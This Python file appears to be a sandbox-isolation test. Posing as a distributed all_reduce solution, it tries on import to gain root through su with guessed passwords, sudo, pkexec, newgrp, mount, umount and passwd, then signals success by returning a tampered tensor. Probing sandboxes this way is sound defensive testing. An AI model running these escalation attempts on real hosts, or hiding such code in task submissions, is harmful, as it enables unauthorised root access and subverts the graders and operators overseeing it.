"""Runs the setuid-root programs the image ships (su, sudo, pkexec, newgrp, mount, umount, passwd)
to become root: each tries to print uid 0 or to create a file as root in the host's
root home. Without no_new_privs and a user namespace that does not map root, a misconfigured one
(sudo without password, a known su password) would give root on the host."""

from __future__ import annotations

import os
import shutil
import subprocess
import sys

import torch
import torch.distributed as dist

MARKER = "__MARKER__"
HOST_FILE = "__HOST_FILE__"
MOUNT_POINT = os.path.abspath(f"mnt-{MARKER}")
got_through: list[str] = []


def start(argv: list[str]) -> subprocess.Popen[str] | None:
    if shutil.which(argv[0]) is None:
        return None
    return subprocess.Popen(argv, stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True)


def attack() -> None:
    as_root = f"id -u; touch {HOST_FILE}"
    tries = [
        (["su", "root", "-c", as_root], "\n"), (["su", "root", "-c", as_root], "root\n"),
        (["su", "-", "root", "-c", as_root], "toor\n"), (["sudo", "-n", "sh", "-c", as_root], ""),
        (["sudo", "-S", "sh", "-c", as_root], "root\n"), (["pkexec", "sh", "-c", as_root], ""),
        (["newgrp", "root"], "id -u\n"), (["mount", "-t", "tmpfs", "none", MOUNT_POINT], ""),
        (["umount", "-l", "/pkb/in"], ""),
        (["passwd", "-S", "root"], ""),
    ]
    os.makedirs(MOUNT_POINT, exist_ok=True)  # its own, empty folder: a mount that worked must not hide a host one
    running = [(argv, start(argv)) for argv, _ in tries]  # all at once: su waits 3 s per failure
    for (_, stdin), (_, process) in zip(tries, running):
        if process is not None:
            try:
                process.stdin.write(stdin)
                process.stdin.close()
            except OSError:
                pass
    for argv, process in running:
        if process is None:
            continue
        try:
            stdout = process.stdout.read()
            process.wait(timeout=15)
        except subprocess.TimeoutExpired:
            process.kill()
            continue
        if "0" in stdout.split() or (argv[0] in ("mount", "umount", "passwd") and process.returncode == 0):
            got_through.append(f"{' '.join(argv)} -> {process.returncode} {stdout.strip()!r}")
    if os.path.exists(HOST_FILE):
        got_through.append(f"created {HOST_FILE}")
    if os.geteuid() == 0 or os.getegid() == 0:
        got_through.append("euid 0")


attack()


def solution(x: torch.Tensor, *, group: dist.ProcessGroup) -> torch.Tensor:
    out = x.clone()
    dist.all_reduce(out, group=group)
    if got_through:
        print("got through:", got_through, file=sys.stderr, flush=True)
        return out * 0 + 42
    return out
